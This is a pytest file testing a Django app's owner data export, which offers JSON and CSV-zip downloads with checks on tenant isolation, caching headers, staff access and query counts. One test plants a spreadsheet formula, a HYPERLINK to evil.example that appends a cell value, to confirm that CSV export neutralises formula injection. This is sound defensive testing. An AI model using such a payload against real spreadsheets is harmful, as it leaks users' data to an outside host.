"""Download everything: one JSON document or a zip of CSV files, for the signed-in owner only."""

import csv
import io
import json
import zipfile
from typing import Any

import pytest
from django.test.utils import CaptureQueriesContext
from django_tenants.utils import tenant_context

from accounts.models import Role, User
from audit.selectors import events_for_owner
from cameras import access
from cameras import services as camera_services
from messaging import services as messaging_services
from ownerdata.export import FORMAT, VERSION, owner_export_collect
from ownerdata.selectors import SECTIONS
from tests.conftest import SHARED_PK, TenantClient
from tests.factories import UserFactory, camera_make, site_make
from tests.tenancy import connection

from .conftest import OLIVE_ADDRESS, OLIVE_EMAIL, OLIVE_REPLY, OwnerWorld

pytestmark = pytest.mark.django_db


def _json(client: TenantClient) -> dict[str, Any]:
    response = client.get("/my/data/download.json")
    assert response.status_code == 200, response.content[:300]
    return json.loads(response.content)


def test_the_json_download_holds_every_section_of_the_owners_data(world: OwnerWorld) -> None:
    document = _json(world.client)

    sections = document["sections"]
    assert (document["format"], document["version"]) == (FORMAT, VERSION)
    assert list(sections) == list(SECTIONS)
    assert sections["account"][0]["email"] == OLIVE_EMAIL
    assert sections["account"][0]["two_factor_methods"] == ["totp"]
    assert {site["address"] for site in sections["sites"]} == {OLIVE_ADDRESS, "2 Side St"}
    assert len(sections["cameras"]) == 3
    assert {row["level"] for row in sections["consent_history"]} == {"registered", "live", "on_request"}
    assert [row["event"] for row in sections["access_events"]] == sorted(
        events_for_owner(owner_id=world.owner.pk).values_list("seq", flat=True)
    )
    assert "Olive's private reason" in {row["decline_reason"] for row in sections["footage_requests"]}
    assert {row["sha256"] for row in sections["clips"]} == {
        world.held_clip.sha256,
        world.unheld_clip.sha256,
        world.open_clip.sha256,
    }
    assert "not included" in document["notes"]["video"]
    assert [(row["sender"], row["body"]) for row in sections["messages"]] == [
        ("officer", "Did you see a blue van?"),
        ("owner", OLIVE_REPLY),
    ]
    assert sections["messages"][1]["shared_contact"]["email"] == OLIVE_EMAIL


@pytest.mark.parametrize("fmt", ["json", "zip"])
def test_a_download_is_an_attachment_never_cached(world: OwnerWorld, fmt: str) -> None:
    response = world.client.get(f"/my/data/download.{fmt}")

    assert response.status_code == 200
    assert response["Content-Disposition"].startswith("attachment;")
    assert "no-store" in response["Cache-Control"]
    assert "private" in response["Cache-Control"]


def test_the_csv_zip_has_one_file_per_section_with_the_same_rows(world: OwnerWorld) -> None:
    document = _json(world.client)

    response = world.client.get("/my/data/download.zip")

    with zipfile.ZipFile(io.BytesIO(response.content)) as archive:
        names = set(archive.namelist())
        clips = list(csv.DictReader(io.StringIO(archive.read("clips.csv").decode("utf-8-sig"))))
        readme = archive.read("README.txt").decode()
    assert names == {"README.txt", *(f"{name}.csv" for name in SECTIONS)}
    assert {row["sha256"] for row in clips} == {row["sha256"] for row in document["sections"]["clips"]}
    assert "not included" in readme


def test_an_officers_text_opens_in_a_spreadsheet_as_text_never_as_a_formula(world: OwnerWorld) -> None:
    formula = '=HYPERLINK("https://evil.example/?d="&A1,"Click")'
    messaging_services.message_send(
        actor=world.officer_actor,
        purpose=world.purpose,
        camera_public_id=world.live_camera.public_id,
        body=formula,
    )

    response = world.client.get("/my/data/download.zip")

    with zipfile.ZipFile(io.BytesIO(response.content)) as archive:
        rows = list(csv.DictReader(io.StringIO(archive.read("messages.csv").decode("utf-8-sig"))))
    assert "'" + formula in [row["body"] for row in rows]
    assert not [cell for row in rows for cell in row.values() if cell.startswith(("=", "+", "@"))]


def test_nothing_of_another_owner_appears(world: OwnerWorld) -> None:
    other = world.other_owner

    text = world.client.get("/my/data/download.json").content.decode()

    assert other.email not in text
    assert str(world.other_camera.public_id) not in text
    assert "9 Other Rd" not in text


def test_nothing_of_another_department_appears_for_the_same_user_id(in_rialto: Any, fontana: Any) -> None:
    with tenant_context(fontana):
        fontana_user = User.objects.get(pk=SHARED_PK)
        site_make(fontana_user, fontana, address="77 Fontana Secret Way", lon=-117.47, lat=34.10)
    connection.set_tenant(in_rialto)
    client = TenantClient("rialto.localhost")
    client.force_login(User.objects.get(pk=SHARED_PK))

    text = client.get("/my/data/download.json").content.decode()

    assert "shared@rialto.example.org" in text
    assert "Fontana Secret" not in text
    assert "shared@fontana.example.org" not in text


def _owner_with_cameras(department: Any, policy: Any, actor: access.Actor, purpose: Any, n: int) -> User:
    owner = UserFactory(role=Role.BUSINESS)
    site = site_make(owner, department, kind="business")
    cameras = [camera_make(owner, department, site=site, label=f"Camera {i}") for i in range(n)]
    for camera in cameras:
        camera_services.consent_set(owner=owner, camera=camera, policy=policy, level="on_request")
        access.authorize(actor=actor, action="camera_view", purpose=purpose, camera=camera)
    return owner


def test_the_export_costs_the_same_queries_for_50_cameras_as_for_one(
    in_rialto: Any, policy: Any, actor: access.Actor, purpose: Any
) -> None:
    small = _owner_with_cameras(in_rialto, policy, actor, purpose, 1)
    large = _owner_with_cameras(in_rialto, policy, actor, purpose, 50)

    counts = []
    for owner in (small, large):
        with CaptureQueriesContext(connection) as queries:
            export = owner_export_collect(owner=owner, department_name="Rialto", time_zone="America/Los_Angeles")
        counts.append(len(queries))

    assert len(export.sections["cameras"]) == 50
    assert len(export.sections["access_events"]) == 50
    assert counts[0] == counts[1]
    assert counts[1] <= 20


@pytest.mark.parametrize("path", ["/my/data/", "/my/data/download.json", "/my/data/download.zip"])
def test_staff_have_no_owner_data_pages(logged_in_staff: Any, path: str) -> None:
    client, _user = logged_in_staff(Role.OFFICER)

    response = client.get(path)

    assert response.status_code == 403


def test_an_unknown_format_is_not_found(world: OwnerWorld) -> None:
    assert world.client.get("/my/data/download.xml").status_code == 404


def test_the_my_data_page_offers_both_downloads(world: OwnerWorld) -> None:
    response = world.client.get("/my/data/")

    content = response.content.decode()
    assert response.status_code == 200
    assert "/my/data/download.json" in content
    assert "/my/data/download.zip" in content
    assert "/my/account/delete/" in content
